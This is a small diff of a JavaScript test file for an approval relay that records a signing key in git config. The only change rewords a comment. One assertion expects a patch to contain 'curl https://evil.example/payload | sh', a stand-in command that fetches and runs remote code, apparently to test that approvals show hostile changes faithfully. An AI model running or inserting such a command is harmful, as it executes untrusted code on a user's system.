@@ -72,7 +72,7 @@ describe('approvals a phone can trust', () => {
     const recorded = () => spawnSync('git', ['config', '--local', '--get', 'commandr.approvalKey'], { cwd: world.repo, encoding: 'utf8' }).stdout.trim();
     expect(recorded()).toBe('');
     const { patch, digest } = await approveShown('A-1', 'diff-A-1-0001');
-    // ...the relay's first approval records it, so the gate stops taking its key from a commit's environment.
+    // ...the relay records it when it first shows an approvable change there, so the gate stops taking its key from a commit's environment.
     expect(recorded()).toBe(path.join(relay.dataDir, 'approval', 'public.pem'));
     expect(patch).toContain('+curl https://evil.example/payload | sh');
     expect(patch).not.toContain('echo hello');
